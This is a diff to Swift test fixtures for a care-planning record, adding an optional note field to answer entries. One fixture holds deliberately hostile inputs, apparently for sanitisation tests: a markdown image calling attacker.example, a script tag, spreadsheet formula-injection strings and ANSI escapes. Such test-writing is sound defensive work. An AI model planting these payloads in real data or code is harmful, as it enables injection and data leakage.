@@ -48,7 +48,7 @@ enum RecordFixtures {
   ]
 
   /// One answer, with the label, prompt and words the conversation would give it.
-  static func entry(_ question: String, _ store: String?, _ value: AnswerValue, label: String? = nil, prompt: String? = nil, section: String = "plan") -> Record.Entry {
+  static func entry(_ question: String, _ store: String?, _ value: AnswerValue, label: String? = nil, prompt: String? = nil, section: String = "plan", note: String? = nil) -> Record.Entry {
     let display: String
     switch value {
     case .text(let text): display = text
@@ -61,7 +61,7 @@ enum RecordFixtures {
     case .notProvided: display = "Not provided"
     }
     let label = label ?? question.replacingOccurrences(of: "-", with: " ").capitalized
-    return Record.Entry(questionID: question, storeName: store, prompt: prompt ?? label + "?", label: label, sectionID: section, value: value, display: display)
+    return Record.Entry(questionID: question, storeName: store, prompt: prompt ?? label + "?", label: label, sectionID: section, value: value, display: display, note: note)
   }
 
   /// The person themselves, every section answered, going for Option 2.
@@ -124,7 +124,7 @@ enum RecordFixtures {
     entry("worries", "safety.worries", .text("He left the gas on twice last month."), label: "Worries", section: "safety"),
     entry("what-would-help", "safety.whatWouldHelp", .text("Someone there in the evenings."), label: "What would help", section: "safety"),
     entry("carer-does", "carer.whatTheyDo", .text("Meals, pills, bills, and I sleep over three nights a week."), label: "What you do", section: "carer"),
-    entry("carer-harder", "carer.gettingHarder", .yesNo(.yes), label: "Caring is getting harder", section: "carer"),
+    entry("carer-harder", "carer.gettingHarder", .yesNo(.yes), label: "Caring is getting harder", section: "carer", note: "a bit, I am 81 myself"),
     entry("carer-support", "carer.wantsSupport", .yesNo(.yes), label: "You would like support", section: "carer"),
     entry("option", "option.preferred", .choice("not-sure"), label: "Option you lean towards", section: "option"),
   ], flags: ["carer-needs-support", "feels-unsafe", "decision-support-needed", "carer-struggling", "no-consent", "self-harm-risk"], choiceLabels: choiceLabels,
@@ -177,7 +177,7 @@ enum RecordFixtures {
     entry("goal.home-life", "outcomes.home-life.inTheirWords", .text("![x](https://attacker.example/?d=1) @everyone www.example.com"), label: "Goal", section: "outcomes"),
     entry("good-at", "strengths.goodAt", .list([formula, "@SUM(1+1)", "+1", "-1", "\tTab", "\rReturn"]), label: "Good at", section: "strengths"),
     entry("worries", "safety.worries", .text("<script>alert(1)</script>\"quoted\" & 'single'"), label: "Worries", section: "safety"),
-    entry("safe-home", "safety.safeAtHome", .yesNo(.no), label: "Feels safe at home", section: "safety"),
+    entry("safe-home", "safety.safeAtHome", .yesNo(.no), label: "Feels safe at home", section: "safety", note: "\(html) \(ansi)\n\(formula)"),
     entry("questions", "questions", .list([heading, link, html]), label: "Questions", section: "questions"),
     entry("unknown-\u{1B}[2J", "x.unknown", .text(ansi), label: "Odd \u{1B}[2J label", section: "odd"),
   ], flags: ["feels-unsafe", "<b>not-a-flag</b>"], choiceLabels: choiceLabels,
